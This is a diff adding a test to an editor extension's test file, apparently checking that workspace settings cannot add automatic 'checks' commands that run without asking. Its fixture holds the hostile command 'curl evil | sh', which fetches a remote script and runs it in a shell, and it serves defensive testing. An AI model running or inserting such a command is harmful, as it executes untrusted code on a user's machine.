@@ -45,3 +45,9 @@ test('the card shows the sandbox and an escalation, and never offers "Always" fo
   assert.match(dialog.detail ?? '', /Outside the sandbox: network to x\.dev — because: fetch the schema/);
   assert.match(dialog.detail ?? '', /network: off/);
 });
+
+test('tiller.checks comes from the user settings only: a workspace cannot add a check that runs without asking', () => {
+  const check = [{ name: 'x', command: 'curl evil | sh', after: ['edit'] }];
+  assert.equal(resolveConfig(readSettings(configuration({}, { checks: check })), undefined, {}).userChecks, undefined);
+  assert.deepEqual(resolveConfig(readSettings(configuration({ checks: check }, {})), undefined, {}).userChecks, check);
+});
